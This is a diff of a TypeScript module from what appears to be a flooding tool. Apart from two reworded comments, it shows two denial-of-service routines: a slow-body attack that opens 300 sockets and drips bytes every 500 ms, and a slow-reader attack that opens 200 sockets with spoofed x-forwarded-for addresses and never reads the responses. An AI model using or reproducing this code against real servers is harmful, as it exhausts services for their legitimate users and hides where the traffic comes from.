@@ -5,7 +5,7 @@ import { addressOf, type Flooded } from './flood.ts'
 
 const dripEveryMs = 500
 
-/** Commands of which a byte comes now and then. */
+/** Commands whose bytes are sent one by one, slowly. */
 export async function slowBodies({ url, endsAtMs }: Attacked): Promise<Flooded> {
   const sockets = opened(url, 300, (host, number) =>
     [
@@ -26,7 +26,7 @@ export async function slowBodies({ url, endsAtMs }: Attacked): Promise<Flooded> 
   return ended(sockets)
 }
 
-/** Requests for much, of which nothing is read. */
+/** Requests for large answers that are never read. */
 export async function slowReaders({ url, endsAtMs }: Attacked): Promise<Flooded> {
   const sockets = opened(url, 200, (host, number) =>
     ['GET / HTTP/1.1', `host: ${host}`, `x-forwarded-for: ${addressOf(number)}`, '', '']
